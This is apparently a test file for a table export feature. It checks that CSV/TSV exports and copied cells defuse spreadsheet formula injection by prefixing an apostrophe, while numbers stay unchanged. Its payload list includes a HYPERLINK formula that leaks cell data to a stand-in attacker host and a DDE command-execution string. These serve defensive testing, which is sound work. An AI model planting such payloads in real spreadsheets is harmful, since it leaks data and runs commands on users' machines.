// Text that a spreadsheet would run as a formula is not one in files and copied cells, unless the person has chosen so.
// Numbers stay numbers.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { copied, exported, exportedText, table, Written } from '../table/export/sources.ts';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+cmd',
  '+1+1',
  '-cmd',
  '-1+1',
  '-2+3+cmd|x',
  '-A1',
  '-1e5+A1',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+A1',
  '－A1',
  '＠SUM(1)',
  '--1',
  '=',
  '-1:A1',
  '+.e(1)',
];

const HARMLESS = [
  ...['-5', '+1.5', '-0.0', '1e-7', '-1e-7', '+.5', '-9223372036854775808', '-00:05:00'],
  ...['-1.02:03:04.5', '-1ns', '-1m30.5s', '-', '+', 'a=b', ' =1', "'=1", '', '1-1', 'x@y.z'],
];

/** A value as a file with this separator has it. */
const quoted = (text: string, separator: string) =>
  /["\r\n]/.test(text) || text.includes(separator) ? `"${text.replaceAll('"', '""')}"` : text;

for (const [format, separator] of [
  ['csv', ','],
  ['tsv', '\t'],
] as const) {
  describe(`an export as ${format.toUpperCase()}`, () => {
    for (const text of FORMULAS) {
      it(`contains ${JSON.stringify(text)} as text, in values and names`, async () => {
        const source = table([[text, 'string']], [[text]]);
        const lines = await exportedText(source, format);
        const expected = quoted(`'${text}`, separator);
        assert.equal(lines, `${expected}\n${expected}\n`);
      });
    }

    it('contains numbers, timespans and other text unchanged', async () => {
      const source = table(
        { text: 'string' },
        HARMLESS.filter((text) => text !== '').map((text) => [text]),
      );
      const { body, notices } = await exported(source, format);
      assert.equal(body.toString(), `text\n${HARMLESS.filter(Boolean).join('\n')}\n`);
      assert.deepEqual(notices, []);
    });

    it('contains negative numbers of numeric columns as numbers', async () => {
      const source = table({ n: 'integer', x: 'float' }, [
        [-5, new Written('-1.5E+10')],
        [-(2n ** 63n), -0.25],
      ]);
      assert.equal(
        await exportedText(source, format, { header: false }),
        `-5${separator}-1.5E+10\n-9223372036854775808${separator}-0.25\n`,
      );
    });

    it('contains the exact text if the guard is off', async () => {
      const source = table(
        { text: 'string' },
        ['=1+1', '@x', '-A1'].map((text) => [text]),
      );
      const { body, notices } = await exported(source, format, { guardFormulas: false });
      assert.equal(body.toString(), 'text\n=1+1\n@x\n-A1\n');
      assert.deepEqual(notices, []);
    });
  });
}

describe('copied cells', () => {
  it('have formulas prefixed with an apostrophe, in one cell or several', async () => {
    for (const text of FORMULAS) {
      const { text: one } = await copied(table({ a: 'string' }, [[text]]), 'text');
      assert.equal(one, text.replace(/^[\t\r\n]?/, "$&'"));
      const pair = table({ a: 'string', n: 'integer' }, [[text, -5]]);
      const { text: several } = await copied(pair, 'text', { header: false });
      assert.equal(several, `${quoted(`'${text}`, '\t')}\t-5`);
    }
  });

  it('of one value without quotation marks have an apostrophe in each part that a spreadsheet splits off', async () => {
    for (const [text, expected] of [
      ['x\n=1+1', "x\n'=1+1"],
      ['x\r\n@SUM(1)\ty', "x\r\n'@SUM(1)\ty"],
      ['x\t=1+1', "x\t'=1+1"],
      ['"=1+1"', `'"=1+1"`],
      ['x\n""=1+1""', `x\n'""=1+1""`],
      ['"x"\n-5\t"y"', '"x"\n-5\t"y"'],
    ] as const) {
      const source = table({ a: 'string' }, [[text]]);
      assert.equal((await copied(source, 'text')).text, expected);
      assert.equal((await copied(source, 'text', { guardFormulas: false })).text, text);
    }
  });

  it('report the apostrophes, and are exact if the guard is off', async () => {
    const source = table({ '@name': 'string' }, [['=1+1'], ['x']]);
    const guarded = await copied(source, 'text');
    assert.equal(guarded.text, "'@name\n'=1+1\nx");
    assert.deepEqual(
      guarded.notices.map(({ code }) => code),
      ['guardedFormulas'],
    );
    const exact = await copied(source, 'text', { guardFormulas: false });
    assert.equal(exact.text, '@name\n=1+1\nx');
  });

  it('with numbers or other text are unchanged', async () => {
    for (const text of HARMLESS) {
      assert.equal((await copied(table({ a: 'string' }, [[text]]), 'text')).text, text);
    }
  });
});
